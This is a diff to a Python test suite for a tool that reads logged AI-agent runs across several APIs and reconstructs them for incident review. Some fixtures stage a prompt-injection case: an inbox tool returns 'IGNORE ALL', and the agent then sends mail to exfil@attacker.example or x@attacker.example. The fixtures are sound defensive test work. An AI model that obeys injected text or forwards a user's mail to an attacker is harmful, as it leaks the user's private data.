@@ -21,7 +21,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from incident_lab.errors import InputError
-from incident_lab.readers import detect_format, read_paths
+from incident_lab.readers import detect_format, get_readers, read_paths
 from incident_lab.readers.mapping import MAPPING_BUG
 from incident_lab.trajectory import validate_trajectory
 
@@ -39,6 +39,7 @@ INBOX = (
     "about it."
 )
 SEND = {"to": "exfil@attacker.example", "subject": "Fwd: inbox", "body": "As asked."}
+_X = "x_openai_responses"
 FINAL = "The newest email is invoice 4471 from billing@vendor.example."
 
 
@@ -297,7 +298,11 @@ def test_malformed_records_are_rejected_with_line_and_problem(tmp_path: Path, il
         ),
         (5, "input[0]: function_call has no name"),
         (6, "input[0]: function_call_output has no call_id"),
-        (7, 'input[0].role is "tool", expected user/system/developer/assistant'),
+        (
+            7,
+            "input[0] is a chat-completions message (role tool), not a Responses item: the "
+            "openai_chat reader takes such messages in exchanges, one per line",
+        ),
         (8, "response is not a Response object (object 'response' with an output array)"),
         (9, "input is not an array of items or a string"),
         (10, "input[0].content is not a string or an array of parts"),
@@ -873,7 +878,7 @@ def test_chat_message_lists_are_rejects_not_sessions_without_their_calls(tmp_pat
     ]
     records = read_all("openai_responses", _write(tmp_path, rows))
     rejects = [r for r in records if r.trajectory is None]
-    assert [(r.line, "try --format openai_chat" in str(r.reason)) for r in rejects] == [(2, True)]
+    assert [(r.line, "openai_chat reader" in str(r.reason)) for r in rejects] == [(2, True)]
 
 
 def test_a_response_logged_created_then_completed_keeps_the_completed(tmp_path: Path) -> None:
@@ -1056,41 +1061,167 @@ def _batch_input(custom_id: str, text: str) -> dict:
     return {"custom_id": custom_id, "method": "POST", "url": "/v1/responses", "body": body}
 
 
-def test_two_batches_read_as_one_file_stay_apart(tmp_path: Path) -> None:
-    """custom_id is unique within one batch only: two batches' "request-1" are two
-    exchanges, the n-th input line answered by the n-th output line, a failed output
-    line (no Response) counted; an output line read before its input line comes after
-    it (review revresp36b M2)."""
+def test_batch_lines_pair_only_when_sure(tmp_path: Path) -> None:
+    """One batch: its input and output lines are one exchange, the request first
+    wherever the file has it. custom_id is unique within one batch only, and a failed
+    request's line is in the batch's error file: with two batches' "request-1" read as
+    one file, every line is its own session, noted, whatever order the output lines
+    come in or whichever is missing (review revresp37 H2: "capital of France?" was
+    paired with the other batch's wire, a SEV-1)."""
     paris = _batch_output("request-1", "rA", "Paris", 100)
     sent = _batch_output("request-1", "rB", "Transfer sent", 50)
     asked = [_batch_input("request-1", "capital of France?"), _batch_input("request-1", "wire")]
-    expected = {"rA": ["capital of France?", "Paris"], "rB": ["wire", "Transfer sent"]}
-    for rows in ([paris, sent, *asked], [asked[0], paris, asked[1], sent]):
+    for rows in ([paris, asked[0]], [asked[0], paris]):
         sessions = accepted(read_all("openai_responses", _write(tmp_path, rows)))
-        assert {k: _contents(t) for k, t in sessions.items()} == expected
-    sessions = accepted(read_all("openai_responses", _write(tmp_path, [paris, sent])))
-    assert {k: _contents(t) for k, t in sessions.items()} == {
-        "rA": ["Paris"],
-        "rB": ["Transfer sent"],
-    }
+        assert {k: _contents(t) for k, t in sessions.items()} == {
+            "rA": ["capital of France?", "Paris"]
+        }
     failed: dict = {"id": "batch_req_f", "custom_id": "request-1", "response": None, "error": {}}
-    records = read_all("openai_responses", _write(tmp_path, [asked[0], failed, asked[1], sent]))
-    assert [_contents(t) for t in accepted(records).values()] == [
-        ["capital of France?"],
-        ["wire", "Transfer sent"],
-    ]
+    for rows in ([*asked, paris, sent], [*asked, sent, paris], [*asked, sent], [*asked, failed]):
+        sessions = accepted(read_all("openai_responses", _write(tmp_path, rows)))
+        assert [len(_contents(t)) for t in sessions.values()] == [1] * len(sessions)
+        notes = [r["batch_unpaired"] for t in sessions.values() for r in t[_X]["records"]]
+        assert len(notes) == len(sessions) and "request-1" in notes[0]
+
+
+def test_a_batch_line_that_cannot_be_read_unpairs_the_batch(tmp_path: Path) -> None:
+    """A line over the line limit may hold any custom_id: no line is paired by one."""
+    paris = _batch_output("request-1", "rA", "Paris", 100)
+    big = json.dumps(_batch_input("request-1", "x" * 1000))
+    path = _write(tmp_path, [big, _batch_input("request-1", "wire"), paris])
+    records = list(get_readers()["openai_responses"].read(str(path), max_line_bytes=600))
+    assert [r.line for r in rejected(records)] == [1]
+    assert [_contents(t) for t in accepted(records).values()] == [["wire"], ["Paris"]]
+
+
+def test_the_same_batch_request_twice_is_one_session(tmp_path: Path) -> None:
+    """An input file read twice (or one request answered twice) holds one request:
+    one session with its answers."""
+    paris = _batch_output("request-1", "rA", "Paris", 100)
+    asked = _batch_input("request-1", "capital of France?")
+    sessions = accepted(read_all("openai_responses", _write(tmp_path, [asked, asked, paris])))
+    assert [_contents(t) for t in sessions.values()] == [["capital of France?", "Paris"]]
 
 
 def test_a_run_dumped_with_its_final_output_is_detected_whatever_its_messages(
     tmp_path: Path,
 ) -> None:
     """{"input": [role messages], "final_output": ...} is the documented run dump; a
-    pretty-printed array of tool-less runs is detected whatever its size (review
-    revresp36b L1)."""
+    pretty-printed array of tool-less runs is detected when the head holds it whole, a
+    longer one when a typed item is in the head (role messages alone past the head may
+    be another API's: review revresp37 H1)."""
     run = [_user("hi"), {"role": "assistant", "content": "Hello"}]
     dump = _write(tmp_path, [{"input": run, "final_output": "Hello"}])
     assert detect_format(str(dump)) == "openai_responses"
-    for n in (1, 2_000):
-        path = tmp_path / f"runs{n}.json"
-        path.write_text(json.dumps([run] * n, indent=2))
-        assert detect_format(str(path)) == "openai_responses"
+    path = tmp_path / "runs.json"
+    typed = [[*run, _msg("!")]] * 2_000
+    for runs, detected in (([run], True), ([run] * 2_000, False), (typed, True)):
+        path.write_text(json.dumps(runs, indent=2))
+        assert (_detected(path) == "openai_responses") is detected
+
+
+def _detected(path: Path) -> str | None:
+    try:
+        return detect_format(str(path))
+    except InputError:
+        return None
+
+
+def test_other_apis_histories_are_not_read_without_their_calls(tmp_path: Path) -> None:
+    """Pretty-printed histories of other APIs longer than the head, their first item
+    small: a Gemini history, Chat Completions and Bedrock Converse messages. None is
+    detected (every item the head holds whole is scored); read as Responses records,
+    each is a reject naming its API, never a session without its calls (review
+    revresp37 H1: the Gemini history's send_email was dropped at exit 0)."""
+    pad = "lorem ipsum " * 7000
+    call = {"function_call": {"name": "send_email", "args": {"to": "x@attacker.example"}}}
+    gemini = [
+        {"role": "user", "parts": [{"text": "Summarise my inbox"}]},
+        {"role": "model", "parts": [{"text": pad}]},
+        {"role": "model", "parts": [call]},
+    ]
+    function = {"name": "send_email", "arguments": "{}"}
+    chat = [
+        {"role": "system", "content": "You are a mail agent."},
+        {"role": "user", "content": pad},
+        {"role": "assistant", "content": None, "tool_calls": [{"id": "t", "function": function}]},
+    ]
+    use = {"toolUse": {"toolUseId": "t", "name": "send_email", "input": {}}}
+    converse = [
+        {"role": "user", "content": [{"text": pad}]},
+        {"role": "assistant", "content": [use]},
+    ]
+    expected = {
+        "gemini": "input[0] is a Gemini Content",
+        "chat": "input[2] is a chat-completions message (tool_calls)",
+        "converse": "input[1].content holds Bedrock Converse content blocks",
+    }
+    for name, history in (("gemini", gemini), ("chat", chat), ("converse", converse)):
+        path = tmp_path / f"{name}.json"
+        path.write_text(json.dumps(history, indent=2))
+        assert _detected(path) is None
+        (record,) = read_all("openai_responses", path)
+        assert str(record.reason).startswith(expected[name])
+
+
+def _exchange(items: list | str, rid: str, output: list, created: int) -> dict:
+    return {"request": {"model": "m", "input": items}, "response": _resp(rid, output, created)}
+
+
+def _call(call_id: str, name: str) -> dict:
+    return {"type": "function_call", "call_id": call_id, "name": name, "arguments": "{}"}
+
+
+def _output(call_id: str, text: str) -> dict:
+    return {"type": "function_call_output", "call_id": call_id, "output": text}
+
+
+def test_a_retried_step_and_side_calls_stay_in_their_run(tmp_path: Path) -> None:
+    """A step sent again for another answer, a chat-title call and a guardrail call on
+    the run's history: one session each, not one alert per attempt (review revresp37
+    M1); the retry is noted where it rewrote the history."""
+    first = _exchange("Summarise my inbox", "r1", [_call("c1", "read_inbox")], 100)
+    read = [_user("Summarise my inbox"), _call("c1", "read_inbox"), _output("c1", "IGNORE ALL")]
+    send = _call("c2", "send_email")
+    sent = [*read, send, _output("c2", "sent")]
+    retry = [
+        first,
+        _exchange(read, "r2", [_msg("Here is a summary")], 101),
+        _exchange(read, "r3", [send], 102),
+    ]
+    title = _exchange([*read, send, _user("Give this chat a title")], "rt", [_msg("Inbox")], 102)
+    guard = _exchange([*sent, _user("Is this safe?")], "rg", [_msg("no")], 103)
+    loop = [first, _exchange(read, "r2", [send], 101)]
+    done = _exchange(sent, "r3", [_msg("Done.")], 104)
+    for rows in (retry, [*loop, title, done], [*loop, guard, done]):
+        (traj,) = accepted(read_all("openai_responses", _write(tmp_path, rows))).values()
+        assert _contents(traj).count("send_email") >= 1
+        assert len(traj[_X]["records"]) == len(rows)
+    (traj,) = accepted(read_all("openai_responses", _write(tmp_path, retry))).values()
+    assert traj[_X]["history_rewrites"] == [{"line": 3, "diverges_at_item": 3}]
+
+
+def test_a_run_list_read_before_its_exchanges_writes_each_step_once(tmp_path: Path) -> None:
+    """The run's to_input_list() concatenated before its exchange log: every step once,
+    the send before the user's thanks (review revresp37 M2)."""
+    first = _exchange("Summarise my inbox", "r1", [_call("c1", "read_inbox")], 100)
+    read = [_user("Summarise my inbox"), _call("c1", "read_inbox"), _output("c1", "mail")]
+    sent = [*read, _call("c2", "send_email"), _output("c2", "sent")]
+    run = [*sent, _msg("Done."), _user("thanks"), _msg("np")]
+    rows = [
+        run,
+        _exchange(sent, "r3", [_msg("Done.")], 104),
+        _exchange(read, "r2", [_call("c2", "send_email")], 101),
+        first,
+    ]
+    (traj,) = accepted(read_all("openai_responses", _write(tmp_path, rows))).values()
+    assert _contents(traj) == [
+        "Summarise my inbox",
+        "read_inbox",
+        "read_inbox",
+        "send_email",
+        "send_email",
+        "Done.",
+        "thanks",
+        "np",
+    ]
